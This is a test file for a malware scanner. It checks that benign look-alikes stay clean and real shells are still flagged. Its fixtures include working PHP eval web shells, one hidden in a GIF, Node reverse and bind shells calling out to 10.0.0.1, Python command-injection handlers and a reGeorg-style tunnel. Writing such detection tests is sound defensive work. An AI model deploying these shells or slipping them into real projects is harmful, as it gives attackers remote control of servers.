/**
 * Precision fixes for false positives seen on whole systems, each with a benign look-alike
 * that is now clean and a shell using the same mechanism that is still caught:
 * Python taint follows function scope; a non-script file's `<?php` counts only as far as the
 * PHP parses; a Node socket counts as wired to a shell only where data moves between them.
 * All fixtures are written here.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { findingOf } from './helpers.js';
import type { Finding } from '../../src/scan/types.js';
import { pythonScopes } from '../../src/scan/analyzers/script-scopes.js';
import { phpParseErrorAt } from '../../src/scan/analyzers/php/parses.js';
import { analyzeText } from '../../src/scan/analyze.js';
import { DEFAULT_LIMITS } from '../../src/scan/types.js';

function ids(f: Finding | undefined): string[] {
  return f ? f.evidence.map((e) => e.id ?? '') : [];
}

// ---- Python: function scope ----

test('python scopes: def bodies end by indentation, past docstrings and bracketed continuations', () => {
  const code = `x = 1\nclass H:\n    def a(self, p, q=2, *rest, **kw):\n        """doc\nat column 0\n        """\n        y = f(1,\n2)\n        return y\n    def b(self): return 1\ndef c(v) -> int:\n    def inner(w):\n        return w\n    return inner(v)\nz = 3\n`;
  const s = pythonScopes(code).map((f) => ({ name: f.name, params: f.params, rest: f.rest, bound: f.bound, parent: f.parent, body: code.slice(f.bodyStart, f.end).trim() }));
  assert.deepEqual(s, [
    { name: 'a', params: ['p', 'q'], rest: 'rest', bound: true, parent: -1, body: '"""doc\nat column 0\n        """\n        y = f(1,\n2)\n        return y' },
    { name: 'b', params: [], rest: undefined, bound: true, parent: -1, body: 'return 1' },
    { name: 'c', params: ['v'], rest: undefined, bound: false, parent: -1, body: 'def inner(w):\n        return w\n    return inner(v)' },
    { name: 'inner', params: ['w'], rest: undefined, bound: false, parent: 2, body: 'return w' },
  ]);
});

const HANDLER = `import subprocess\nfrom http.server import BaseHTTPRequestHandler, HTTPServer\n`;

test('python: a name tainted in one method does not taint the same name in another function', () => {
  // webconfig.py's shape: the handler reads `name` from the path; a launcher runs its own `name`
  const code = `${HANDLER}class H(BaseHTTPRequestHandler):\n    def do_GET(self):\n        name = self.path[1:]\n        self.send_response(200)\ndef launch():\n    name = "xdg-open"\n    subprocess.call([name, "http://localhost:8000/"])\n`;
  assert.equal(findingOf('webconfig.py', code), undefined);
});

test('python: request data passed as an argument taints the parameter (method, keyword)', () => {
  const method = `${HANDLER}class H(BaseHTTPRequestHandler):\n    def do_GET(self):\n        cmd = self.path[1:]\n        self.run(cmd)\n    def run(self, c):\n        self.wfile.write(subprocess.check_output(c, shell=True))\nHTTPServer(('', 8000), H).serve_forever()\n`;
  const f = findingOf('srv.py', method);
  assert.equal(f?.verdict, 'malicious');
  assert.deepEqual(ids(f), ['flow/request-derived-variable-reaches-subprocess-check_output', 'flow/command-code-execution-in-a-script-that-reads-request-input']);
  const keyword = `from flask import Flask, request\nimport os\napp = Flask(__name__)\ndef execute(where, what):\n    return os.popen(what).read()\n@app.route('/x')\ndef x():\n    c = request.args.get('c')\n    return execute('/tmp', what=c)\n`;
  const k = findingOf('app.py', keyword);
  assert.equal(k?.verdict, 'malicious');
  assert.deepEqual(ids(k), ['flow/request-derived-variable-reaches-os-popen', 'flow/command-code-execution-in-a-script-that-reads-request-input']);
});

test('python: only the parameter the call fills with request data is tainted', () => {
  const code = `from flask import Flask, request\nimport os\napp = Flask(__name__)\ndef execute(cmd, label):\n    os.system(cmd)\n@app.route('/x')\ndef x():\n    execute("uptime", request.args.get('label'))\n    return 'ok'\n`;
  const f = findingOf('app.py', code);
  assert.deepEqual(ids(f), []);
});

test('python: a module-level or `global` request value is seen inside functions', () => {
  const module = `from flask import request\nimport os\ncmd = request.args.get('c')\ndef go():\n    os.system(cmd)\n`;
  assert.deepEqual(ids(findingOf('m.py', module)), ['flow/request-derived-variable-reaches-os-system', 'flow/command-code-execution-in-a-script-that-reads-request-input']);
  const global = `from flask import request\nimport os\ncmd = ''\ndef grab():\n    global cmd\n    cmd = request.args.get('c')\ndef go():\n    os.system(cmd)\n`;
  assert.deepEqual(ids(findingOf('g.py', global)), ['flow/request-derived-variable-reaches-os-system', 'flow/command-code-execution-in-a-script-that-reads-request-input']);
});

// ---- PHP in files of other types ----

test('php parse: a closing bracket PHP cannot pair is where the PHP stops', () => {
  assert.equal(phpParseErrorAt(`" outside of <?php or <?) without newlines`), 24);
  assert.equal(phpParseErrorAt(`<?php if ($a) { ?><b><?php } echo f(1, [2]); ?>`), -1);
  assert.equal(phpParseErrorAt(`<?php $s = ')'; /* ] */ echo "}"; $h = <<<EOT\n)\nEOT;\n`), -1);
  // left open at the end: a truncated shell still parses as far as it goes
  assert.equal(phpParseErrorAt(`<?php system($_GET['c']`), -1);
  assert.equal(phpParseErrorAt('no tag ) here'), -1);
  // a bare short tag before the first <?php is text where short tags are off: the parse starts at <?php
  assert.equal(phpParseErrorAt(`<? ] ?>\n<?php system($_GET['c']); ?>`), -1);
  assert.equal(phpParseErrorAt(`<? ] ?>`), 3);
  // an old shell written for short tags: its first block closes a brace a later <?php block opened in its own text
  assert.equal(phpParseErrorAt(`<? if ($a) { ?>\n<form>\n<?php echo 1; ?>\n<? exit; } ?>\n`), -1);
  // both readings fail: the PHP stops at the later error
  assert.equal(phpParseErrorAt(`<? ) ?> <?php ] ?>`), 14);
});

test('php: a short-tag shell kept as .txt whose later <?php block sits inside a short-tag if is still analyzed whole', () => {
  const txt = `<?\nif (!isset($_POST['pass'])) {\n?>\n<form><input name=pass></form>\n<?php\n  // Don't delete this!\n  exit();\n}\n?>\n<?php @eval(base64_decode($_POST['z0'])); ?>\n`;
  const t = findingOf('shell.txt', txt);
  assert.equal(t?.verdict, 'malicious');
  assert.deepEqual(ids(t), ['flow/request-input-reaches-eval', 'family/one-line-eval-of-a-posted-parameter']);
});

test('php: junk after a bare short tag does not hide a later <?php shell in a .txt include', () => {
  const txt = `<?xml version="1.0"?>\n<? ] ?>\n<?php @eval(base64_decode($_POST['z0'])); ?>\n`;
  const t = findingOf('readme.txt', txt);
  assert.equal(t?.verdict, 'malicious');
  assert.deepEqual(ids(t), ['flow/request-input-reaches-eval', 'family/one-line-eval-of-a-posted-parameter']);
});

test('php: a .vim file whose comment holds <?php and whose rest is no PHP is clean', () => {
  // phpcomplete.vim's shape: a comment names the tag, then Vim dictionaries list PHP functions
  const code = `" locate the start (<?php or <?) without newlines\nlet f = {'eval(':'string $code | mixed', 'popen(':'string $command, string $mode | resource', 'create_function(':'string $args, string $code | string', 'assert(':'mixed $assertion | bool'}\nlet g = {'base64_decode(':'string $data | string', 'system(':'string $command | string'}\nif 1 | call eval(base64_decode($_GET['x'])) | endif\n`;
  assert.equal(findingOf('phpcomplete.vim', code), undefined);
});

test('php: a shell in a .txt include (junk after it included) or after GIF bytes is still caught', () => {
  // what precedes the parse error is analyzed: a shell with text pasted after its code stays one
  const txt = `<?php @eval(base64_decode($_POST['z0'])); ) pasted notes ] that follow\n`;
  const t = findingOf('notes.txt', txt);
  assert.equal(t?.verdict, 'malicious');
  assert.deepEqual(ids(t), ['flow/request-input-reaches-eval', 'family/one-line-eval-of-a-posted-parameter']);
  const gif = `GIF89a\x01\x00\x01\x00\x80\x00\x00)]}<?php @eval(base64_decode($_POST['z0'])); ?>`;
  const g = findingOf('logo.gif', gif);
  assert.equal(g?.verdict, 'malicious');
  assert.deepEqual(ids(g), ['flow/request-input-reaches-eval', 'capability/server-side-php-code-inside-a-gif-file', 'family/one-line-eval-of-a-posted-parameter']);
});

// ---- Node: socket wired to a shell ----

test('node: a socket client and a shell name that exchange no data are no reverse shell', () => {
  // corepack.cjs's shape: a proxy agent's socket in one module, cross-spawn's `cmd` table in another
  const code = `const net = require('net');\nconst cp = require('child_process');\nfunction agent(opts) {\n  const socket = net.connect(opts.port, opts.host);\n  socket.write('CONNECT ' + opts.target + ' HTTP/1.1\\r\\n\\r\\n');\n  return socket;\n}\nconst shells = new Map([['.cmd', 'cmd'], ['.sh', 'sh']]);\nfunction run(file, args) {\n  const child = cp.spawn(file, args, { stdio: 'inherit' });\n  child.stdout && child.stdout.pipe(process.stdout);\n  return child;\n}\nmodule.exports = { agent, run, shells };\n`;
  assert.deepEqual(ids(findingOf('bundle.js', code)), []);
});

test('node: socket data fed to a shell, or a shell piped to the socket, is a reverse shell', () => {
  const piped = `(function(){\n  var net = require("net"), cp = require("child_process"), sh = cp.spawn("/bin/sh", []);\n  var client = new net.Socket();\n  client.connect(8888, "10.0.0.1", function(){\n    client.pipe(sh.stdin);\n    sh.stdout.pipe(client);\n  });\n})();\n`;
  const p = findingOf('shell.js', piped);
  assert.equal(p?.verdict, 'malicious');
  assert.deepEqual(ids(p), ['capability/socket-wired-to-a-system-shell']);
  const written = `var spawn = require('child_process').spawn;\nvar net = require('net');\nvar shell = 'cmd.exe';\nnet.createServer(function (s) {\n  var sh = spawn(shell);\n  sh.stdout.on('data', function (d) { s.write(d); });\n}).listen(4444);\n`;
  assert.deepEqual(ids(findingOf('bind.js', written)), ['capability/socket-wired-to-a-system-shell']);
  const ran = `const net = require('net');\nconst { exec } = require('child_process');\nconst c = net.connect(4444, '10.0.0.1');\nc.on('data', (d) => exec(d.toString(), (e, out) => c.write(out)));\n`;
  assert.deepEqual(ids(findingOf('rs.js', ran)), ['capability/socket-wired-to-a-system-shell']);
});

test('node: in a bundle, a quoted "host" key is no tainted host variable', () => {
  const pad = `// ${'x'.repeat(70000)}\n`;
  const code = `const tls = require('tls');\nconst net = require('net');\nfunction a(req) { const host = req.headers.host; return net.connect(443, 'example.org'); }\nfunction a2(req) { const host = req.headers.host; return host; }\nfunction b(opts, socket) {\n  return tls.connect({ ...omit(opts, "host", "path", "port"), socket });\n}\n${pad}`;
  assert.deepEqual(ids(findingOf('bundle.js', code)), []);
});

test('node: in a bundle, a host taken from the request one step before the connect is still a tunnel', () => {
  const code = `const net = require('net');\nconst http = require('http');\nhttp.createServer(function (req, res) {\n  var host = req.headers['x-target'];\n  var s = new net.Socket();\n  s.connect(443, host);\n  req.pipe(s); s.pipe(res);\n}).listen(8000);\n// ${'x'.repeat(70000)}\n`;
  const f = findingOf('bundle.js', code);
  assert.equal(f?.verdict, 'suspicious');
  assert.deepEqual(ids(f), ['flow/request-input-chooses-a-network-host-port-to-connect-to']);
});

test("reGeorg: its upper-case READ command is a cue, a stream's 'read' event is not", () => {
  const tunnel = `const http = require('http');\nconst net = require('net');\nconst socks = {};\nhttp.createServer((req, res) => {\n  const cmd = req.headers['x-cmd'];\n  if (cmd === 'CONNECT') {\n    const socket = net.connect(parseInt(req.headers['x-port']), req.headers['x-target']);\n    socks[1] = socket;\n  } else if (cmd === 'READ') {\n    res.end(socks[1].read());\n  } else if (cmd === 'FORWARD') {\n    req.pipe(socks[1]);\n  }\n}).listen(8000);\n`;
  const f = findingOf('tunnel.js', tunnel);
  assert.equal(f?.verdict, 'malicious');
  assert.deepEqual(ids(f), ['flow/request-input-chooses-a-network-host-port-to-connect-to', 'family/relays-tcp-connections-over-http-requests']);
  // an HTTP client's proxy code: CONNECT, a socket, and stream 'read' events (playwright's bundle)
  const client = `const net = require('net');\nfunction proxy(req, method, stream) {\n  stream.on('read', () => {});\n  const socket = stream.socket;\n  if (method === 'CONNECT') return net.connect(443, 'proxy.local');\n  return stream.emit("read");\n}\nmodule.exports = proxy;\n`;
  const ev = analyzeText(client, 'node', { limits: DEFAULT_LIMITS, deadline: Date.now() + 5000, notes: [] }).list();
  assert.deepEqual(
    ev.map((e) => e.reason),
    [],
  );
});
